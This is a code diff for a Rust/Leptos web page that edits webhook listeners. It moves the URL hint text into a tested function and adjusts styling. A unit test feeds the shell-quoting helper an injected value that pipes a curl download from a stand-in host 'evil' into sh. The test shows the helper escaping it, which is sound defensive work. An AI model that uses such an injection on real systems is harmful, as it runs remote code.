@@ -280,6 +280,27 @@ pub fn ListenerPage() -> impl IntoView {
     }
 }
 
+/// What the editor says under the endpoint URL, for the key as typed.
+fn url_note(hydrated: bool, saved: bool, key: &str) -> String {
+    let note = match (hydrated, saved, parse_key(key)) {
+        (false, true, _) => {
+            "Without JavaScript, a new key or type shows in this URL once you save."
+        }
+        (false, false, _) => {
+            "Without JavaScript, the URL shows once you save: the listener's page has it, ready to copy."
+        }
+        (true, true, Ok(_)) => {
+            "A new key or type changes this URL once you save: copy it into the other system then."
+        }
+        (true, false, Ok(_)) => {
+            "Copy the URL into the other system, then save the listener: it answers calls once it is saved."
+        }
+        (true, _, Err(_)) if key.trim().is_empty() => "The URL shows here as you type the key.",
+        (true, _, Err(e)) => return format!("No URL yet: {}", field_sentence("the key", &e)),
+    };
+    note.to_string()
+}
+
 /// The listener's settings. Only the fields of the chosen type show: hydrated, the type select
 /// swaps them in place; without JavaScript the type comes from the page (the type step, or
 /// `?kind=`), and links change it. The endpoint URL follows the key as it is typed.
@@ -341,15 +362,7 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
     });
     let has_url = Memo::new(move |_| !url.get().is_empty());
     let saved = l.is_some();
-    let url_note = move || {
-        match (js.get(), has_url.get()) {
-        (true, true) => "Copy the URL into the other system, then save the listener: it answers calls once it is saved.".to_string(),
-        (true, false) if typed_key.with(|k| k.trim().is_empty()) => "The URL shows here as you type the key.".to_string(),
-        (true, false) => parse_key(&typed_key.get()).err().map(|e| format!("No URL yet: {}", field_sentence("the key", &e))).unwrap_or_default(),
-        (false, _) if saved => "Without JavaScript, a new key or type shows in this URL once you save.".to_string(),
-        (false, _) => "Without JavaScript, the URL shows once you save: the listener's page has it, ready to copy.".to_string(),
-    }
-    };
+    let note = move || typed_key.with(|key| url_note(js.get(), saved, key));
 
     // External Data: an existing group, or one created with the listener.
     let groups = opts.data_groups.clone();
@@ -379,7 +392,7 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
                 } else {
                     view! { <p class=LABEL>"Endpoint URL"</p> }.into_any()
                 }}
-                <p class="mt-1 text-xs text-slate-500">{url_note}</p>
+                <p class="mt-1 text-xs text-slate-500">{note}</p>
             </div>
             <TextField label="Description" name="form[description]" value=description autocomplete="off" error=field_error(error, "description")/>
             <div class="grid grid-cols-1 gap-4 sm:grid-cols-3">
@@ -387,7 +400,7 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
                     <label for="f-kind" class=LABEL>"Listener type"</label>
                     // Without JavaScript a changed type could not show its fields: the select
                     // is enabled once hydrated, and the links below change the type instead.
-                    <select id="f-kind" class=INPUT disabled=move || !js.get()
+                    <select id="f-kind" class=format!("{INPUT} disabled:bg-slate-100 disabled:text-slate-600") disabled=move || !js.get()
                         on:change=move |ev| {
                             if let Some(k) = ListenerKind::parse(&event_target_value(&ev)) {
                                 kind.set(k);
@@ -424,7 +437,7 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
                     <TextField label="Comment field" name="form[comment_field]" value=comment_field autocomplete="off" hint="The body's key holding the comment, e.g. comment." error=field_error(error, "comment_field")/>
                 </div>
             </fieldset>
-            <fieldset class="space-y-4 rounded-md border border-slate-200 p-4" hidden=not_chosen(ListenerKind::Data)>
+            <fieldset class="min-w-0 space-y-4 rounded-md border border-slate-200 p-4" hidden=not_chosen(ListenerKind::Data)>
                 <legend class="px-1 text-sm font-semibold">"External Data"</legend>
                 <div>
                     <label for="f-data_group_id" class=LABEL>"Data group"</label>
@@ -439,7 +452,6 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
                     <p class="mt-1 text-xs text-slate-500">"The body's keys that are parameters of the group are stored, each as its field's type."</p>
                 </div>
                 <div class="space-y-3 border-t border-slate-200 pt-4" hidden=move || js.get() && group.get() != NEW_DATA_GROUP>
-                    <h3 class="text-sm font-semibold">"The new group"</h3>
                     <p class="text-xs text-slate-500" hidden=move || js.get()>"Used when the data group above is “Create a new group”."</p>
                     <div class="max-w-md">
                         <TextField label="New group" name="form[group_name]" autocomplete="off" hint="Its name, e.g. Jira. It is created when the listener is saved." error=field_error(error, "group_name")/>
@@ -462,12 +474,32 @@ fn ListenerEditor(opts: ListenerFormOptions, kind: ListenerKind) -> impl IntoVie
 
 #[cfg(test)]
 mod tests {
+    use super::{shell_quoted, url_note};
+
     #[test]
     fn examples_quote_what_a_field_name_holds_for_the_shell() {
-        assert_eq!(super::shell_quoted("plain"), "'plain'");
+        assert_eq!(shell_quoted("plain"), "'plain'");
         assert_eq!(
-            super::shell_quoted("a'$(curl evil|sh)'"),
+            shell_quoted("a'$(curl evil|sh)'"),
             r#"'a'\''$(curl evil|sh)'\'''"#
+        );
+    }
+
+    #[test]
+    fn the_note_under_the_url_follows_the_key_and_javascript() {
+        assert_eq!(
+            url_note(true, false, " "),
+            "The URL shows here as you type the key."
+        );
+        assert_eq!(
+            url_note(true, false, "two words"),
+            "No URL yet: the key must be 1 to 60 letters, digits, - or _."
+        );
+        assert!(url_note(true, false, "Jira").starts_with("Copy the URL into the other system"));
+        assert!(url_note(true, true, "jira").starts_with("A new key or type changes this URL"));
+        assert!(
+            url_note(false, false, "jira")
+                .starts_with("Without JavaScript, the URL shows once you save")
         );
     }
 }
